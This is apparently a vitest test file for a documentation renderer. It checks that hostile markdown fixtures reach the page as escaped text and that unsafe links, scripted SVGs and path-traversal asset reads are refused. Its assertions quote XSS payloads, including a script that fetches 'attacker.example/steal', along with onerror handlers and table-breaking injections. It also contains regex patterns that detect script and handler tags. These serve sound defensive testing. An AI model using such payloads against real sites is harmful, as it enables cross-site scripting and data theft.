/**
 * test/fixtures/repos/docs-hostile: docs that try to run code, break out of tables, fake our
 * markers, link to nothing and ship a scripted SVG. Everything must reach the page as text.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { docsFindings, repoMarkdown, repoMarkdownIn } from '../../src/lib/site/repo-markdown.ts';
import type { RepoDoc, RepoMarkdownInput } from '../../src/lib/site/repo-markdown.ts';
import { docImages, readDocAsset } from '../../src/pipeline/doc-assets.ts';
import { HOSTILE, scanFixture } from './atlas-fixture.ts';

let atlas: RepoMarkdownInput;
let hostile: RepoDoc;
beforeAll(async () => {
  atlas = await scanFixture(HOSTILE);
  hostile = byFile('docs/hostile.md');
});

/** Every doc page: the /docs/ section and the runbook folders (published under /runbooks/). */
function published(): RepoDoc[] {
  return [...repoMarkdown(atlas).docs, ...repoMarkdownIn(atlas, atlas.config.runbooks, { prefix: '/runbooks/' }).docs];
}

function byFile(file: string): RepoDoc {
  const doc = published().find((d) => d.file === file);
  if (!doc) throw new Error(`${file} is not published`);
  return doc;
}

/** 1-based line of the first line of `file` containing `needle`, read from the fixture itself. */
function lineOf(file: string, needle: string): number {
  const index = readFileSync(join(HOSTILE, file), 'utf8').split('\n').findIndex((l) => l.includes(needle));
  if (index < 0) throw new Error(`${needle} not in ${file}`);
  return index + 1;
}

/** Start tags of the HTML (escaped text such as `&#x3C;img onerror=...>` is not a tag). */
function tags(html: string): string[] {
  return [...html.matchAll(/<[a-zA-Z][^>]*>/g)].map((m) => m[0]);
}

describe('hostile docs', () => {
  it('shows raw HTML as escaped text and emits no script, handler or javascript: URL', () => {
    for (const doc of published()) {
      expect(doc.html).not.toMatch(/<script/i);
      expect(doc.html).not.toMatch(/<(iframe|object|embed|style)/i);
      for (const tag of tags(doc.html)) {
        expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
        expect(tag).not.toMatch(/(href|src)\s*=\s*"\s*(javascript|data|vbscript):/i);
      }
    }
    expect(hostile.html).toContain("<p>&#x3C;script>window.__atlasPwned = 1; fetch('https://attacker.example/steal')&#x3C;/script></p>");
    expect(hostile.html).toContain('<p>&#x3C;img src="x" onerror="window.__atlasPwned = 2"></p>');
  });

  it('drops javascript: and data: links but keeps their text, with a finding on the line', () => {
    expect(hostile.html).toContain('<p>A javascript link and a data link.</p>');
    const unsafe = hostile.findings.filter((f) => f.code === 'UNSAFE_URL_REMOVED');
    expect(unsafe.map((f) => f.source.line)).toEqual([lineOf('docs/hostile.md', 'javascript link'), lineOf('docs/hostile.md', 'javascript link')]);
  });

  it('keeps MDX braces and import/export lines as text', () => {
    expect(hostile.html).toContain("<p>import Evil from './evil.mjs'\nexport const pwned = window.__atlasPwned = 4</p>");
    expect(hostile.html).toContain('<p>MDX braces {window.__atlasPwned = 5} and {props.secret} stay text.</p>');
  });

  it('keeps a cell that tries to close the table inside the cell', () => {
    expect(hostile.html).toContain('<td>&#x3C;/td>&#x3C;/tr>&#x3C;/table>&#x3C;script>window.__atlasPwned = 6&#x3C;/script></td>');
    expect(hostile.html.match(/<table>/g)).toHaveLength(1);
    expect(hostile.html.match(/<\/table>/g)).toHaveLength(1);
  });

  it('treats marker lookalikes as text, strips real generated blocks, and keeps line numbers', () => {
    expect(hostile.html).toContain('<p>&#x3C;!-- begin atlas -->&#x3C;script>window.__atlasPwned = 9&#x3C;/script></p>');
    expect(hostile.html).toContain('&#x3C;!-- BEGIN ATLAS -->\nA marker shown in a code sample is text, not a marker.');
    expect(hostile.html).not.toContain('GENERATED-BLOCK-TEXT');
    expect(hostile.findings.filter((f) => f.code.startsWith('MARKERS_'))).toEqual([]);
  });

  it('reports the broken link with the line it is on (after the stripped block) and shows its text', () => {
    const broken = hostile.findings.filter((f) => f.code === 'BROKEN_DOC_LINK');
    expect(broken).toHaveLength(1);
    expect(broken[0]?.source).toEqual({ file: 'docs/hostile.md', line: lineOf('docs/hostile.md', 'does-not-exist.md'), col: 3 });
    expect(broken[0]?.message).toContain('docs/does-not-exist.md does not exist');
    expect(hostile.html).toContain('<p>A broken link after the generated block.</p>');
  });

  it('counts lines from the top of the file when there is front matter', () => {
    const titled = byFile('docs/titled.md');
    const broken = titled.findings.filter((f) => f.code === 'BROKEN_DOC_LINK');
    expect(broken.map((f) => f.source.line)).toEqual([lineOf('docs/titled.md', 'gone folder')]);
    expect(broken.map((f) => f.source.line)).toEqual([12]);
  });

  it('serves checked images and skips the SVG with a script, with a finding', () => {
    expect(hostile.html).toContain('<img src="/docs/_assets/docs/images/diagram.png" alt="A diagram">');
    expect(hostile.html).toContain('<img src="/docs/_assets/docs/images/clean.svg" alt="A clean SVG">');
    expect(hostile.html).not.toContain('evil.svg"');
    expect(hostile.html).toContain('<p>An evil SVG</p>');
    const skipped = hostile.findings.filter((f) => f.code === 'DOC_IMAGE_SKIPPED');
    expect(skipped.map((f) => [f.source.line, f.message])).toEqual([
      [lineOf('docs/hostile.md', 'evil.svg'), 'Image "images/evil.svg" is not shown because it contains a <script> element.'],
    ]);
    expect(docImages(atlas)).toEqual(['docs/images/clean.svg', 'docs/images/diagram.png']);
  });

  it('reads only listed images, byte for byte', () => {
    const png = readDocAsset(atlas, 'docs/images/diagram.png');
    expect(png?.type).toBe('image/png');
    expect(Buffer.from(png?.bytes ?? []).equals(readFileSync(join(HOSTILE, 'docs/images/diagram.png')))).toBe(true);
    expect(readDocAsset(atlas, 'docs/images/clean.svg')?.type).toBe('image/svg+xml');
    expect(readDocAsset(atlas, 'docs/images/evil.svg')).toBeNull();
    expect(readDocAsset(atlas, 'kubernetes/apps/default/echo/app/deployment.yaml')).toBeNull();
    expect(readDocAsset(atlas, '../../../package.json')).toBeNull();
  });

  it('respects front matter: title, description, draft; broken front matter is a finding and the body renders', () => {
    const titled = byFile('docs/titled.md');
    expect(titled.title).toBe('A title from front matter');
    expect(titled.description).toBe('Front matter sets the title and the description.');
    expect(titled.headings.map((h) => h.slug)).toEqual(['usage']);
    const bad = byFile('docs/bad-front-matter.md');
    expect(bad.title).toBe('Still rendered');
    expect(bad.html).toContain('The body is shown although the front matter is broken.');
    expect(bad.findings.filter((f) => f.code === 'FRONT_MATTER_INVALID').map((f) => f.source.line)).toEqual([3, 4]);
    expect(repoMarkdown(atlas).docs.map((d) => d.file)).not.toContain('docs/draft.md');
  });

  it('resolves links between docs, to anchors and to app folders; manifests without repoUrl become text', () => {
    expect(hostile.html).toContain('<a href="/docs/titled/#usage">the titled doc</a>');
    expect(hostile.html).toContain('<a href="/runbooks/restart/">the runbook</a>');
    const restart = byFile('docs/runbooks/restart.md');
    expect(restart.html).toContain('<a href="/apps/default/echo/">its folder</a>');
    expect(restart.html).toContain('manifest is\ndeployment.yaml.');
    expect(restart.html).toContain('<a href="/docs/hostile/#hostile-document">the hostile doc</a>');
    const missing = restart.findings.filter((f) => f.code === 'BROKEN_DOC_LINK');
    expect(missing.map((f) => [f.source.line, f.message])).toEqual([
      [lineOf('docs/runbooks/restart.md', '#nope'), 'Link "../titled.md#nope" is broken: docs/titled.md has no heading "#nope". Fix the path or remove the link.'],
    ]);
  });

  it('gives a file name with spaces and umlauts a readable, encoded URL', () => {
    const doc = byFile('docs/Räume und Geräte.md');
    expect(doc.slug).toBe('räume-und-geräte');
    expect(doc.url).toBe('/docs/r%C3%A4ume-und-ger%C3%A4te/');
    expect(doc.html).toContain('<img src="/docs/_assets/docs/images/diagram.png" alt="the diagram">');
  });

  it('collects every finding of the docs, sorted, each with a file and a line', () => {
    const all = docsFindings(atlas);
    expect(all.map((f) => `${f.code} ${f.source.file}:${f.source.line}`)).toEqual([
      'FRONT_MATTER_INVALID docs/bad-front-matter.md:3',
      'FRONT_MATTER_INVALID docs/bad-front-matter.md:4',
      'UNSAFE_URL_REMOVED docs/hostile.md:7',
      'UNSAFE_URL_REMOVED docs/hostile.md:7',
      'BROKEN_DOC_LINK docs/hostile.md:30',
      'DOC_IMAGE_SKIPPED docs/hostile.md:34',
      'BROKEN_DOC_LINK docs/runbooks/restart.md:6',
      'BROKEN_DOC_LINK docs/titled.md:12',
    ]);
    expect(all.every((f) => f.area === 'docs')).toBe(true);
  });
});
